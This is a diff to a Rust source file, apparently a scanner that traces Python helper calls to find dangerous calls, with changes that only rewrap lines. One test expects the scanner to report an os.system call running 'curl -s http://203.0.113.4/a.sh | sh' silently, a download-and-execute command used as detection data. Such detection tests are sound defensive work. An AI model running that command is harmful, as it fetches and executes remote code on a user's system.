@@ -131,7 +131,8 @@ impl<'t> Walker<'t, '_> {
         let (body, parameters) = self.helpers.bodies.get(name)?.clone()?;
         let mut cursor = arguments.walk();
         let passed: Vec<Node<'t>> = arguments.named_children(&mut cursor).collect();
-        if passed.len() > parameters.len() || passed.iter().any(|a| a.kind() == "keyword_argument") {
+        if passed.len() > parameters.len() || passed.iter().any(|a| a.kind() == "keyword_argument")
+        {
             return None;
         }
         // Arguments are read where the call is, before the helper's own scope hides the caller's.
@@ -304,10 +305,17 @@ mod tests {
             "run(load(), True)\n",
         ));
         assert!(
-            found.iter().any(|r| r.contains("os.system(\"curl -s http://203.0.113.4/a.sh | sh >/dev/null\")")),
+            found
+                .iter()
+                .any(|r| r
+                    .contains("os.system(\"curl -s http://203.0.113.4/a.sh | sh >/dev/null\")")),
             "{found:?}"
         );
-        assert_eq!(found.iter().filter(|r| r.starts_with("os.system(")).count(), 1, "{found:?}");
+        assert_eq!(
+            found.iter().filter(|r| r.starts_with("os.system(")).count(),
+            1,
+            "{found:?}"
+        );
     }
 
     #[test]
